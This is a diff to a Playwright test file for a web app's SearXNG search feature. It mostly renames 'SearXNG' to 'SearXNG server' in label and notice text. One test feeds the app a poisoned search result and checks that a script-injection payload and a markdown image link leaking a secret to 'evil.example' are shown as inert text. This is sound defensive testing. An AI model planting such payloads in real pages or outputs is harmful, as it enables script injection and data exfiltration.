@@ -40,7 +40,7 @@ def test_sources_are_text_and_links_and_the_page_says_that_the_question_leaves_t
     page.goto(server.link)
     title = page.title()
     assert use_search(page, searxng.address("poisoned"), SHOW) == 2
-    expect(page.locator("#toasts")).to_contain_text("Your question leaves this machine: the SearXNG at")
+    expect(page.locator("#toasts")).to_contain_text("Your question leaves this machine: the SearXNG server at")
     found = page.locator("#found")
     expect(found).to_contain_text("<script>document.title='owned'</script>")
     expect(found).to_contain_text("![x](https://evil.example/leak?q=secret) <img src=x onerror=alert(1)>")
@@ -85,11 +85,13 @@ def test_automatic_search_is_off_until_it_is_chosen_and_settings_are_kept(server
     show = "document.querySelector('main').append(search.searchSettings()); "
     ask = "return await search.reasonToSearch('the latest moons');"
     assert use_search(page, searxng.address(), show + ask) is None
-    expect(page.get_by_label("Address of the SearXNG")).to_have_value(searxng.address())
+    expect(page.get_by_label("Address of the SearXNG server")).to_have_value(searxng.address())
     page.get_by_label("Search without being asked").check()
-    page.get_by_label("Address of the SearXNG").fill("nonsense")
-    page.get_by_label("Address of the SearXNG").blur()
-    expect(page.locator(".search-settings [role=alert]")).to_contain_text("Allowed: ddgs, or the address of a SearXNG")
+    page.get_by_label("Address of the SearXNG server").fill("nonsense")
+    page.get_by_label("Address of the SearXNG server").blur()
+    expect(page.locator(".search-settings [role=alert]")).to_contain_text(
+        "Allowed: ddgs, or the address of a SearXNG server"
+    )
     assert use_search(page, searxng.address(), ask) == "latest"
     assert use_search(page, searxng.address(), "return (await search.privacyNotice())").startswith("Your question")
 
